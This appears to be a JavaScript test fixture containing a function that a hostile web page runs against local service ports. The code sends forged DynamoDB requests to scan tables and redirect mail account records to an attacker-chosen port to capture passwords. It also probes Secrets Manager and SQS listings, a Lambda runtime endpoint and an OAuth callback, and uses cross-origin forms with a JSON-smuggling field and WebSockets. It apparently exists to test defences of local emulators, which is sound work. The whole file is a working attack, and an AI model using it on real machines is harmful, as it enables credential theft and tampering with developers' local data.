/**
 * All requests that a web page can attempt against ports of this machine. A test evaluates this file inside the page.
 * With an open DynamoDB, it finds the mail account and moves it to another port, where its password would be sent next.
 */
// biome-ignore lint/correctness/noUnusedVariables: the test calls it
const attackFromPage = async (ports, passwordPort) => {
  /** The part of a response that the page could read. */
  const learnt = []
  const here = location.hostname === 'rebound.example' ? location.hostname : '127.0.0.1'
  const limit = () => AbortSignal.timeout(5_000)
  const say = (port, how, text) => learnt.push({ port, how, text })
  const call = async (port, target, body) => {
    const headers = {
      'content-type': 'application/x-amz-json-1.0',
      'x-amz-target': target,
      'x-amz-date': new Date().toISOString().replaceAll(/[-:]|\.\d+/g, ''),
      authorization:
        'AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=0',
    }
    try {
      const init = { method: 'POST', headers, body: JSON.stringify(body), signal: limit() }
      const response = await fetch(`http://${here}:${port}/`, init)
      const text = await response.text()
      say(port, target, `${response.status} ${text}`)
      return response.ok ? text : undefined
    } catch {
      return undefined
    }
  }
  const moveAccounts = async (port) => {
    const tables = await call(port, 'DynamoDB_20120810.ListTables', {})
    if (tables === undefined) return
    for (const TableName of JSON.parse(tables).TableNames ?? []) {
      const { Items = [] } = JSON.parse((await call(port, 'DynamoDB_20120810.Scan', { TableName })) ?? '{}')
      for (const { accountId, host, username } of Items) {
        if (!accountId || !host || !username) continue
        await call(port, 'DynamoDB_20120810.UpdateItem', {
          TableName,
          Key: { accountId },
          UpdateExpression: 'SET #port = :port',
          ExpressionAttributeNames: { '#port': 'port' },
          ExpressionAttributeValues: { ':port': { N: String(passwordPort) } },
        })
      }
    }
  }
  const blind = async (port) => {
    const [root, next] = [`http://${here}:${port}/`, `http://${here}:${port}/2018-06-01/runtime/invocation/next`]
    const init = { method: 'POST', mode: 'no-cors', body: '{}', signal: limit() }
    for (const attempt of [
      () => fetch(root, init),
      () => fetch(root, { mode: 'no-cors', signal: limit() }),
      () => fetch(next, { mode: 'no-cors', signal: limit() }),
      () =>
        fetch(`${root}oauth2/callback?code=a&state=b`, { mode: 'no-cors', credentials: 'include', signal: limit() }),
    ])
      await attempt().catch(() => undefined)
    for (const address of [root, next]) {
      const read = await fetch(address, { signal: limit() }).catch(() => undefined)
      if (read !== undefined) say(port, `GET ${address}`, `${read.status} ${await read.text()}`)
    }
  }
  const form = (port, enctype) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe')
      frame.name = `frame-${port}-${enctype}`
      const element = document.createElement('form')
      Object.assign(element, { method: 'post', action: `http://${here}:${port}/`, target: frame.name, enctype })
      const field = document.createElement('input')
      Object.assign(field, { name: '{"TableName":"', value: '"}' })
      element.append(field)
      document.body.append(frame, element)
      element.submit()
      frame.onload = () => resolve()
      setTimeout(resolve, 2_000)
    })
  const socket = (port) =>
    new Promise((resolve) => {
      const opened = new WebSocket(`ws://${here}:${port}/`)
      opened.onopen = () => {
        say(port, 'WebSocket', 'open')
        resolve()
      }
      opened.onerror = () => resolve()
      setTimeout(resolve, 2_000)
    })
  for (const port of ports) {
    await moveAccounts(port)
    for (const target of ['secretsmanager.ListSecrets', 'AmazonSQS.ListQueues']) await call(port, target, {})
    await blind(port)
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
      await form(port, enctype)
    await socket(port)
  }
  return learnt
}
